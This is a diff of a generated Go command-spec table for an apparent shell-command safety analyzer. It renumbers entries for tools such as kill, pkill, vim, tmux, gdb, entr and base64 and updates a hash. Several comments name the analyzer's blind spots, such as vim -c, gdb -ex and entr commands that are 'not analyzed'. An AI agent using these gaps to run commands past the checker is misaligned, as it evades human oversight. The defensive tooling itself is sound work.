+func program216() *Spec {
 	return &Spec{
 		Names: []string{
 			"atq",
@@ -42033,7 +42115,7 @@ func program215() *Spec {
 // kill: signals processes by id (a negative id or -1 means many processes, judged)
 //
 //go:noinline
-func program216() *Spec {
+func program217() *Spec {
 	return &Spec{
 		Names: []string{
 			"kill",
@@ -42118,7 +42200,7 @@ func program216() *Spec {
 // pkill: signals processes by name or user (can hit unrelated processes, the editor or the agent)
 //
 //go:noinline
-func program217() *Spec {
+func program218() *Spec {
 	return &Spec{
 		Names: []string{
 			"pkill",
@@ -42141,7 +42223,7 @@ func program217() *Spec {
 // open: opens files or URLs with their default application (which may run them)
 //
 //go:noinline
-func program218() *Spec {
+func program219() *Spec {
 	return &Spec{
 		Names: []string{
 			"open",
@@ -42166,7 +42248,7 @@ func program218() *Spec {
 // code: opens files and folders in an editor (installing extensions runs their code)
 //
 //go:noinline
-func program219() *Spec {
+func program220() *Spec {
 	return &Spec{
 		Names: []string{
 			"code",
@@ -42280,7 +42362,7 @@ func program219() *Spec {
 // vim: text editors; editing a file writes it; -c, --cmd, -S and +cmd run editor commands (not analyzed)
 //
 //go:noinline
-func program220() *Spec {
+func program221() *Spec {
 	return &Spec{
 		Names: []string{
 			"vim",
@@ -42401,7 +42483,7 @@ func program220() *Spec {
 // nano: text editors; editing a file writes it; --eval, -l and --batch run editor code (not analyzed)
 //
 //go:noinline
-func program221() *Spec {
+func program222() *Spec {
 	return &Spec{
 		Names: []string{
 			"nano",
@@ -42524,7 +42606,7 @@ func program221() *Spec {
 // tmux: terminal multiplexer; commands given to new sessions, windows and send-keys are split and analyzed like sh -c
 //
 //go:noinline
-func program222() *Spec {
+func program223() *Spec {
 	return &Spec{
 		Names: []string{
 			"tmux",
@@ -42772,7 +42854,7 @@ func program222() *Spec {
 // screen: terminal multiplexer; a command started in it, or typed with -X stuff, is split and analyzed like sh -c
 //
 //go:noinline
-func program223() *Spec {
+func program224() *Spec {
 	return &Spec{
 		Names: []string{
 			"screen",
@@ -42854,7 +42936,7 @@ func program223() *Spec {
 // gdb: debugger; -ex, -x and -batch run debugger commands (not analyzed); attaching to a process is judged
 //
 //go:noinline
-func program224() *Spec {
+func program225() *Spec {
 	return &Spec{
 		Names: []string{
 			"gdb",
@@ -42960,7 +43042,7 @@ func program224() *Spec {
 // lldb: debugger; -o and -s run debugger commands (not analyzed); attaching to a process is judged
 //
 //go:noinline
-func program225() *Spec {
+func program226() *Spec {
 	return &Spec{
 		Names: []string{
 			"lldb",
@@ -43049,7 +43131,7 @@ func program225() *Spec {
 // strace: traces a process (with a command it is unwrapped by the splitter; alone it attaches to a process)
 //
 //go:noinline
-func program226() *Spec {
+func program227() *Spec {
 	return &Spec{
 		Names: []string{
 			"strace",
@@ -43136,7 +43218,7 @@ func program226() *Spec {
 // entr: reruns a command when files change (the command is not followed by the splitter)
 //
 //go:noinline
-func program227() *Spec {
+func program228() *Spec {
 	return &Spec{
 		Names: []string{
 			"entr",
@@ -43221,7 +43303,7 @@ func program227() *Spec {
 // hyperfine: benchmarks commands given as strings (not followed by the splitter)
 //
 //go:noinline
-func program228() *Spec {
+func program229() *Spec {
 	return &Spec{
 		Names: []string{
 			"hyperfine",
@@ -43309,7 +43391,7 @@ func program228() *Spec {
 // direnv: per-directory environments from .envrc (allowing an .envrc makes it run on every cd)
 //
 //go:noinline
-func program229() *Spec {
+func program230() *Spec {
 	return &Spec{
 		Names: []string{
 			"direnv",
@@ -43378,7 +43460,7 @@ func program229() *Spec {
 // asdf: language version managers (listing and switching for the project allowed; installing toolchains judged)
 //
 //go:noinline
-func program230() *Spec {
+func program231() *Spec {
 	return &Spec{
 		Names: []string{
 			"asdf",
@@ -43518,7 +43600,7 @@ func program230() *Spec {
 // shellcheck: linters that only read the files they are given
 //
 //go:noinline
-func program231() *Spec {
+func program232() *Spec {
 	return &Spec{
 		Names: []string{
 			"shellcheck",
@@ -43554,7 +43636,7 @@ func program231() *Spec {
 // actionlint: lints GitHub Actions workflows (it may run the shellcheck and pyflakes programs it is pointed at)
 //
 //go:noinline
-func program232() *Spec {
+func program233() *Spec {
 	return &Spec{
 		Names: []string{
 			"actionlint",
@@ -43606,7 +43688,7 @@ func program232() *Spec {
 // markdownlint: lints Markdown (--fix rewrites the files it is given)
 //
 //go:noinline
-func program233() *Spec {
+func program234() *Spec {
 	return &Spec{
 		Names: []string{
 			"markdownlint",
@@ -43686,7 +43768,7 @@ func program233() *Spec {
 // codespell: finds (and with -w fixes) common misspellings
 //
 //go:noinline
-func program234() *Spec {
+func program235() *Spec {
 	return &Spec{
 		Names: []string{
 			"codespell",
@@ -43772,7 +43854,7 @@ func program234() *Spec {
 // shfmt: formats shell scripts (-w rewrites the files it is given)
 //
 //go:noinline
-func program235() *Spec {
+func program236() *Spec {
 	return &Spec{
 		Names: []string{
 			"shfmt",
@@ -43847,7 +43929,7 @@ func program235() *Spec {
 // ctags: builds a tags index of the source (written to ./tags or -f FILE)
 //
 //go:noinline
-func program236() *Spec {
+func program237() *Spec {
 	return &Spec{
 		Names: []string{
 			"ctags",
@@ -43914,7 +43996,7 @@ func program236() *Spec {
 // pbcopy: copies to or pastes from the clipboard
 //
 //go:noinline
-func program237() *Spec {
+func program238() *Spec {
 	return &Spec{
 		Names: []string{
 			"pbcopy",
@@ -43944,7 +44026,7 @@ func program237() *Spec {
 // notify-send: shows a notification or speaks text
 //
 //go:noinline
-func program238() *Spec {
+func program239() *Spec {
 	return &Spec{
 		Names: []string{
 			"notify-send",
@@ -43968,7 +44050,7 @@ func program238() *Spec {
 // base64: encodes or decodes files
 //
 //go:noinline
-func program239() *Spec {
+func program240() *Spec {
 	return &Spec{
 		Names: []string{
 			"base64",
@@ -44039,7 +44121,7 @@ func program239() *Spec {
 // envsubst: substitutes environment variables into text from stdin
 //
 //go:noinline
-func program240() *Spec {
+func program241() *Spec {
 	return &Spec{
 		Names: []string{
 			"envsubst",
@@ -53005,4 +53087,4 @@ func shared115() []Option {
 }
 
 // generatedHash is the SHA-256 of the YAML files the table was generated from.
-const generatedHash = "ae7cadf66a66e45a0c18e3179d886a812fa44e43e1ced800bb89f5c45aa35ca2"
+const generatedHash = "545759405ec666e15e09386c261c878ff9861dc9b2e844ad0ce2dfb07ca22e79"
